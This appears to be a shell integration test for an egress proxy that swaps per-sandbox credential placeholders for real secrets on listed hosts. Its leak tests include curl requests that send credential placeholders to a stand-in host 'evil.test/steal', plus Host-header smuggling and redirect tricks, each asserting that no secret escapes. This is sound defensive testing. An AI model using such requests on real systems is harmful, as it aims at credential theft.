# r30-proxy-creds: named credentials in the proxy (issue 30, first slice):
# declared by an addon (bearer, header, basic, query; env: and file:
# secrets), chosen per sandbox by its policy or the defaults, placeholders
# in the register reply, swapped on an intercepted request to a listed
# host (a header, a Basic pair, the query), forms added when the client
# sent none; and every route a placeholder or a real value could leave by,
# each asserted on what a recording upstream received.
. "$(dirname "$0")/../lib/common.sh"
. "$TOP/tests/lib/fakegit.sh"

# ---- a test CA and one TLS upstream posing as every host ----
openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -keyout "$T/upca.key" \
	-out "$T/upca.crt" -days 2 -subj "/CN=r30 upstream CA" 2>/dev/null
openssl req -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -keyout "$T/srv.key" \
	-out "$T/srv.csr" -subj "/CN=model.test" 2>/dev/null
printf 'subjectAltName=DNS:model.test,DNS:anthropic.test,DNS:pypi.acme.test,DNS:maps.test,DNS:api.corp.test,DNS:evil.test,DNS:model.test.evil.test\n' >"$T/ext.cnf"
openssl x509 -req -in "$T/srv.csr" -CA "$T/upca.crt" -CAkey "$T/upca.key" -CAcreateserial \
	-out "$T/srv.crt" -days 2 -extfile "$T/ext.cnf" 2>/dev/null

UP=$(free_port); PLAIN=$(free_port); PP=$(free_port)
"$PY" "$FX/upstream.py" "$UP" --keepalive --log "$T/rec.jsonl" --cert "$T/srv.crt" \
	--key "$T/srv.key" --redirect https://evil.test/steal & track_pid $!
"$PY" "$FX/upstream.py" "$PLAIN" --log "$T/plain.jsonl" & track_pid $!

# The secrets: only in the proxy's environment and files.
rnd() { od -An -N12 -tx1 /dev/urandom | tr -d ' \n'; }
MODEL_KEY=sk-model-REAL$(rnd)
ANTH_KEY=sk-ant-REAL$(rnd)
PYPI_PW=pypi-REAL$(rnd)
MAPS_KEY="maps REAL/$(rnd)+&="	# a query value that must be percent-encoded
CORP_TOK=corp-REAL$(rnd)
printf '%s\n' "$ANTH_KEY" >"$T/anth.key"
printf '%s' "$PYPI_PW" >"$T/pypi.pw"
printf '%s\n' "$MAPS_KEY" >"$T/maps.key"
printf '%s\n' "$CORP_TOK" >"$T/corp.tok"
chmod 600 "$T"/*.key "$T/pypi.pw" "$T/corp.tok"

cat >"$T/creds.lua" <<EOF
return {
  name = "creds",
  credentials = {
    { name = "model", form = "bearer", secret = "env:R30_MODEL_KEY", hosts = { "model.test" },
      default = true, env = { "OPENAI_API_KEY", "MODEL_KEY" } },
    { name = "anth", form = "header", field = "x-api-key", secret = "file:$T/anth.key",
      hosts = { "anthropic.test" } },
    { name = "pypi", form = "basic", user = "__token__", secret = "file:$T/pypi.pw",
      hosts = { "pypi.acme.test" } },
    { name = "maps", form = "query", field = "key", secret = "file:$T/maps.key",
      hosts = { "maps.test" } },
    { name = "corp", form = "bearer", secret = "file:$T/corp.tok", hosts = { "*.corp.test" } },
  },
}
EOF

px_yaml() {	# px_yaml ADDON-FILE
	cat <<EOF
listen: 127.0.0.1:$PP
workers: 2
admin:
  socket: $T/admin.sock
ca: {cert: $T/ca.crt, key: $T/ca.key, export: $T/export/ca.crt}
upstream:
  ca_bundle: $T/upca.crt
  allow_cidrs: [127.0.0.0/8]
resolve:
  "model.test:443": "127.0.0.1:$UP"
  "anthropic.test:443": "127.0.0.1:$UP"
  "pypi.acme.test:443": "127.0.0.1:$UP"
  "maps.test:443": "127.0.0.1:$UP"
  "api.corp.test:443": "127.0.0.1:$UP"
  "evil.test:443": "127.0.0.1:$UP"
  "model.test.evil.test:443": "127.0.0.1:$UP"
  "model.test:80": "127.0.0.1:$PLAIN"
addons: [$1]
audit:
  log: $T/audit.jsonl
log:
  file: $T/proxy.log
EOF
}
mkdir -p "$T/export"
px_yaml "$T/creds.lua" >"$T/p.yaml"
R30_MODEL_KEY=$MODEL_KEY "$BIN/egress-proxy/egress-proxy" -d -v -f "$T/p.yaml" >>"$T/stderr" 2>&1 &
PX_PID=$!
track_pid $PX_PID
wait_port "$PP" 20 && wait_for 10 test -S "$T/admin.sock" || { fail "proxy start" "$(tail -5 "$T/stderr")"; exit 1; }
adm() { "$PY" "$FX/padmin.py" "$T/admin.sock" "$@"; }
pyj() { "$PY" -c "import json,sys; d=json.load(sys.stdin); $1"; }
jcheck() {	# jcheck NAME FILE PYTHON: PYTHON asserts on d, the JSON in FILE
	if "$PY" -c "import json,re,sys; d=json.load(open(sys.argv[1])); $3" "$2" 2>"$T/jcheck.err"; then
		ok "$1"
	else
		fail "$1" "$(tail -n 1 "$T/jcheck.err")"
	fi
}

# ---- 1. register: the credentials in force, their placeholders, never a value ----
adm '{"op":"register","id":"sb-a","secret":"s-a"}' >"$T/reg-a.json"
adm '{"op":"register","id":"sb-b","secret":"s-b","policy":{"credentials":["model","anth","pypi","maps","corp"]}}' >"$T/reg-b.json"
adm '{"op":"register","id":"sb-c","secret":"s-c","policy":{"credentials":[]}}' >"$T/reg-c.json"
jcheck "no policy: the default credentials only (model)" "$T/reg-a.json" \
	'assert d["ok"] and sorted(d["credentials"]) == ["model"], d'
jcheck "a policy's list: exactly its credentials" "$T/reg-b.json" \
	'assert sorted(d["credentials"]) == ["anth", "corp", "maps", "model", "pypi"], d'
jcheck "an empty list: none, not the defaults" "$T/reg-c.json" 'assert d["credentials"] == {}, d'
jcheck "each entry: form, hosts, field or user, a placeholder" "$T/reg-b.json" '
c = d["credentials"]
assert c["anth"]["form"] == "header" and c["anth"]["field"] == "x-api-key", c
assert c["pypi"]["user"] == "__token__" and c["corp"]["hosts"] == ["*.corp.test"], c
assert all(re.fullmatch("PXC[A-Z2-7]{29}", v["placeholder"]) for v in c.values()), c
assert c["model"]["env"] == ["OPENAI_API_KEY", "MODEL_KEY"] and "env" not in c["anth"], c'
ph() { pyj "print(d['credentials']['$2']['placeholder'])" <"$T/reg-$1.json"; }
PH_A_MODEL=$(ph a model); PH_B_MODEL=$(ph b model); PH_ANTH=$(ph b anth); PH_PYPI=$(ph b pypi)
PH_MAPS=$(ph b maps); PH_CORP=$(ph b corp)
check "placeholders are per sandbox" test "$PH_A_MODEL" != "$PH_B_MODEL"
adm '{"op":"register","id":"sb-b","secret":"s-b","policy":{"credentials":["model","anth","pypi","maps","corp"]}}' >"$T/reg-b2.json"
check "the same sandbox gets the same placeholders again" test "$(ph b2 model)" = "$PH_B_MODEL"
check "no reply holds a real value" bash -c "! grep -qF -e '$MODEL_KEY' -e '$ANTH_KEY' -e '$PYPI_PW' -e '$CORP_TOK' '$T'/reg-*.json"
out=$(adm '{"op":"register","id":"sb-x","secret":"s-x","policy":{"credentials":["model","nosuch"]}}')
case $out in *'"ok":false'*"nosuch, which no addon declares"*) ok "a policy naming an undeclared credential is refused";;
*) fail "a policy naming an undeclared credential is refused" "$out";; esac
out=$(adm '{"op":"register","id":"sb-x","secret":"s-x","policy":{"credentials":"model"}}')
case $out in *'"ok":false'*"list of credential names"*) ok "policy.credentials must be a list";;
*) fail "policy.credentials must be a list" "$out";; esac

# ---- 2. swaps and forms, as the upstream received them ----
C=(curl -sS --max-time 20 --cacert "$T/export/ca.crt")
CB=("${C[@]}" -x "http://sb-b:s-b@127.0.0.1:$PP")
last() { tail -n 1 "$T/rec.jsonl"; }
hdr() {	# hdr NAME: the value of header NAME in the last request the upstream saw
	last | "$PY" -c 'import json,sys; d=json.loads(sys.stdin.read()); n=sys.argv[1].lower()
print("\n".join(v for k,v in d["headers"] if k.lower()==n))' "$1"
}
upath() { last | "$PY" -c 'import json,sys; print(json.loads(sys.stdin.read())["path"])'; }
n0=$(wc -l <"$T/rec.jsonl" 2>/dev/null || echo 0)
"${CB[@]}" -H "Authorization: Bearer $PH_B_MODEL" https://model.test/v1/models >"$T/o1" 2>&1
check "bearer placeholder: the upstream got the real key" test "$(hdr authorization)" = "Bearer $MODEL_KEY"
check "bearer placeholder: the client got the upstream's answer" contains "$T/o1" "upstream-ok"
"${CB[@]}" https://model.test/v1/chat >/dev/null 2>&1
check "no Authorization sent: the bearer form is added" test "$(hdr authorization)" = "Bearer $MODEL_KEY"
"${CB[@]}" -H "Authorization: Bearer sk-something-else" https://model.test/v1/chat >/dev/null 2>&1
check "the client's own Authorization never passes; the form replaces it" test "$(hdr authorization)" = "Bearer $MODEL_KEY"
"${CB[@]}" -H "x-api-key: $PH_ANTH" https://anthropic.test/v1/messages >/dev/null 2>&1
check "header placeholder (x-api-key) swapped" test "$(hdr x-api-key)" = "$ANTH_KEY"
check "one x-api-key field upstream" test "$(hdr x-api-key | wc -l)" = 1
"${CB[@]}" https://anthropic.test/v1/messages >/dev/null 2>&1
check "no x-api-key sent: the header form is added" test "$(hdr x-api-key)" = "$ANTH_KEY"
"${CB[@]}" -u "__token__:$PH_PYPI" https://pypi.acme.test/simple/acme-lib/ >/dev/null 2>&1
want=$(printf '%s' "__token__:$PYPI_PW" | base64 -w0)
check "Basic pair with a placeholder: decoded, swapped, encoded again" test "$(hdr authorization)" = "Basic $want"
"${CB[@]}" https://pypi.acme.test/simple/ >/dev/null 2>&1
check "no Authorization: the basic form is added with its user" test "$(hdr authorization)" = "Basic $want"
enc=$("$PY" -c 'import sys,urllib.parse; print(urllib.parse.quote(sys.argv[1], safe="-_.~"))' "$MAPS_KEY")
"${CB[@]}" "https://maps.test/geo?q=berlin&key=$PH_MAPS&z=1" >/dev/null 2>&1
check "query placeholder swapped, percent-encoded" test "$(upath)" = "/geo?q=berlin&key=$enc&z=1"
"${CB[@]}" "https://maps.test/geo?q=paris" >/dev/null 2>&1
check "no key parameter: the query form is added" test "$(upath)" = "/geo?q=paris&key=$enc"
"${CB[@]}" "https://maps.test/tiles" >/dev/null 2>&1
check "no query at all: the query form starts one" test "$(upath)" = "/tiles?key=$enc"
"${CB[@]}" https://api.corp.test/v2/x >/dev/null 2>&1
check "a host glob (*.corp.test) gets its credential" test "$(hdr authorization)" = "Bearer $CORP_TOK"
"${CB[@]}" https://MODEL.test./v1/case >/dev/null 2>&1
check "case and a trailing dot: the same canonical host, the credential" test "$(hdr authorization)" = "Bearer $MODEL_KEY"
CA_=("${C[@]}" -x "http://sb-a:s-a@127.0.0.1:$PP")
"${CA_[@]}" -H "Authorization: Bearer $PH_A_MODEL" https://model.test/v1/a >/dev/null 2>&1
check "sb-a (defaults) gets model with its own placeholder" test "$(hdr authorization)" = "Bearer $MODEL_KEY"

# ---- 3. the audit line names what was applied, never a value ----
sleep 0.5
check "audit: a swap is named" grep -q '"credentials":"model:swap"' "$T/audit.jsonl"
check "audit: an added form is named" grep -q '"credentials":"anth:header"' "$T/audit.jsonl"
check "audit: the query's path keeps the client's placeholder" grep -qF "key=$PH_MAPS" "$T/audit.jsonl"
check "metrics count the requests with a credential" bash -c "adm() { $PY $FX/padmin.py $T/admin.sock \"\$@\"; }; adm '{\"op\":\"metrics\"}' | grep -Eq 'egress_proxy_credential_requests_total [1-9]'"

# ---- 4. attacks: where a placeholder or a value could leak ----
novalue() {	# novalue FILE...: none of the real values in the files
	! grep -qF -e "$MODEL_KEY" -e "$ANTH_KEY" -e "$PYPI_PW" -e "$CORP_TOK" -e "$enc" "$@" 2>/dev/null
}
"${CB[@]}" -H "Authorization: Bearer $PH_B_MODEL" -H "x-api-key: $PH_ANTH" \
	"https://evil.test/steal?key=$PH_MAPS" >/dev/null 2>&1 ||
	"${C[@]}" --cacert "$T/upca.crt" -x "http://sb-b:s-b@127.0.0.1:$PP" \
	-H "Authorization: Bearer $PH_B_MODEL" -H "x-api-key: $PH_ANTH" \
	"https://evil.test/steal?key=$PH_MAPS" >/dev/null 2>&1
check "placeholders sent to an unlisted host arrive as the text they are" \
	bash -c "tail -n 1 '$T/rec.jsonl' | grep -qF '$PH_B_MODEL'"
check "an unlisted host gets no value" bash -c "tail -n 1 '$T/rec.jsonl' | { ! grep -qF -e '$MODEL_KEY' -e '$ANTH_KEY' -e '$enc'; }"
"${C[@]}" --cacert "$T/upca.crt" -x "http://sb-b:s-b@127.0.0.1:$PP" \
	-H "Authorization: Bearer $PH_B_MODEL" https://model.test.evil.test/x >/dev/null 2>&1
check "a listed name as a prefix of another host (model.test.evil.test) gets nothing" \
	bash -c "tail -n 1 '$T/rec.jsonl' | grep -qF '$PH_B_MODEL' && tail -n 1 '$T/rec.jsonl' | { ! grep -qF '$MODEL_KEY'; }"
"${C[@]}" --cacert "$T/upca.crt" -x "http://sb-c:s-c@127.0.0.1:$PP" \
	-H "Authorization: Bearer $PH_B_MODEL" https://model.test/v1/c >/dev/null 2>&1
check "a sandbox without the credential sending another's placeholder: not opened, the text only" \
	bash -c "tail -n 1 '$T/rec.jsonl' | grep -qF '$PH_B_MODEL' && tail -n 1 '$T/rec.jsonl' | { ! grep -qF '$MODEL_KEY'; }"
"${C[@]}" --cacert "$T/upca.crt" -x "http://sb-a:s-a@127.0.0.1:$PP" \
	-H "x-api-key: $PH_ANTH" https://anthropic.test/v1/a >/dev/null 2>&1
check "another sandbox's placeholder for a credential this one lacks: the text only" \
	bash -c "tail -n 1 '$T/rec.jsonl' | grep -qF '$PH_ANTH' && tail -n 1 '$T/rec.jsonl' | { ! grep -qF '$ANTH_KEY'; }"
n1=$(wc -l <"$T/rec.jsonl")
code=$("${CB[@]}" -o /dev/null -w '%{http_code}' -H "Host: evil.test" -H "Authorization: Bearer $PH_B_MODEL" https://model.test/x 2>/dev/null)
check "Host naming another host on a credential's tunnel: 421" test "$code" = 421
code=$("${CB[@]}" -o /dev/null -w '%{http_code}' --request-target "https://evil.test/abs" -H "Authorization: Bearer $PH_B_MODEL" https://model.test/x 2>/dev/null)
check "an absolute-form target naming another host: 421" test "$code" = 421
check "neither was forwarded" test "$(wc -l <"$T/rec.jsonl")" = "$n1"
cat "$T/export/ca.crt" "$T/upca.crt" >"$T/both.pem"
curl -sS --max-time 20 --cacert "$T/both.pem" -x "http://sb-b:s-b@127.0.0.1:$PP" \
	-H "Authorization: Bearer $PH_B_MODEL" -o /dev/null -L --location-trusted https://model.test/redirect 2>/dev/null
check "a redirect to an unlisted host: followed by the client, the placeholder only" \
	bash -c "tail -n 1 '$T/rec.jsonl' | grep -q '/steal' && tail -n 1 '$T/rec.jsonl' | grep -qF '$PH_B_MODEL' && tail -n 1 '$T/rec.jsonl' | { ! grep -qF '$MODEL_KEY'; }"
curl -sS --max-time 20 -x "http://sb-b:s-b@127.0.0.1:$PP" -H "Authorization: Bearer $PH_B_MODEL" \
	http://model.test/plain >/dev/null 2>&1
check "plain http:// to a listed host: no credential, the placeholder as text" \
	bash -c "tail -n 1 '$T/plain.jsonl' | grep -qF '$PH_B_MODEL' && ! grep -qF '$MODEL_KEY' '$T/plain.jsonl'"
"${CB[@]}" --proxy-header "X-Note: $PH_B_MODEL" -H "Proxy-Authorization: Bearer $PH_B_MODEL" \
	https://model.test/pa >/dev/null 2>&1
check "Proxy-Authorization with a placeholder is never swapped or sent" \
	bash -c "tail -n 1 '$T/rec.jsonl' | { ! grep -qi 'proxy-authorization'; }"
# nine fields with placeholders: refused, nothing sent
n1=$(wc -l <"$T/rec.jsonl")
args=(); for i in 1 2 3 4 5 6 7 8 9; do args+=(-H "X-P$i: $PH_B_MODEL"); done
code=$("${CB[@]}" -o /dev/null -w '%{http_code}' "${args[@]}" https://model.test/many 2>/dev/null)
check "more than 8 fields with placeholders: 400, nothing forwarded" \
	bash -c "test '$code' = 400 && test \$(wc -l <'$T/rec.jsonl') = $n1"
check "no real value in the proxy's log, stderr or audit log" novalue "$T/proxy.log" "$T/stderr" "$T/audit.jsonl"
check "the proxy's log names the credentials' sources, not values" bash -c "! grep -qF '$MODEL_KEY' '$T/proxy.log'"

# ---- 5. declarations: a bad one stops the load with a reason ----
bad_decl() {	# bad_decl NAME LUA-ENTRY EXPECTED
	printf 'return { name = "bad", credentials = { %s } }\n' "$2" >"$T/bad.lua"
	px_yaml "$T/bad.lua" | sed "s/^listen: .*/listen: 127.0.0.1:$(free_port)/; s|socket: .*|socket: $T/bad.sock|" >"$T/bad.yaml"
	if "$BIN/egress-proxy/egress-proxy" -n -f "$T/bad.yaml" >"$T/bad.out" 2>&1; then
		fail "declaration refused: $1" "the config was taken"
	elif grep -qF -- "$3" "$T/bad.out"; then
		ok "declaration refused: $1"
	else
		fail "declaration refused: $1" "$(tail -n 3 "$T/bad.out")"
	fi
}
bad_decl "no hosts" '{ name = "x", form = "bearer", secret = "env:HOME" }' "hosts is a list"
bad_decl "an unknown form" '{ name = "x", form = "cookie", secret = "env:HOME", hosts = { "a.test" } }' "form is bearer"
bad_decl "a header form without field" '{ name = "x", form = "header", secret = "env:HOME", hosts = { "a.test" } }' "needs field"
bad_decl "a header form on Host" '{ name = "x", form = "header", field = "Host", secret = "env:HOME", hosts = { "a.test" } }' "the proxy's own"
bad_decl "a secret variable not set" '{ name = "x", form = "bearer", secret = "env:R30_NOT_SET", hosts = { "a.test" } }' "env:R30_NOT_SET: the variable is not set"
bad_decl "a missing secret file" "{ name = \"x\", form = \"bearer\", secret = \"file:$T/none\", hosts = { \"a.test\" } }" "No such file"
bad_decl "a name declared twice" '{ name = "x", form = "bearer", secret = "env:HOME", hosts = { "a.test" } }, { name = "x", form = "bearer", secret = "env:HOME", hosts = { "b.test" } }' "declared twice"
bad_decl "a bad name" '{ name = "X Y", form = "bearer", secret = "env:HOME", hosts = { "a.test" } }' "lower-case"
bad_decl "a host with a slash" '{ name = "x", form = "bearer", secret = "env:HOME", hosts = { "a.test/p" } }' "not a host name"
bad_decl "an env entry that is not a variable name" '{ name = "x", form = "bearer", secret = "env:HOME", hosts = { "a.test" }, env = { "A-B" } }' "env[1] is not a variable name"
bad_decl "sigv4 (not served yet)" '{ name = "x", form = "sigv4", secret = "env:HOME", hosts = { "s3.test" } }' "not served yet"
check "the proxy still runs" kill -0 "$PX_PID"

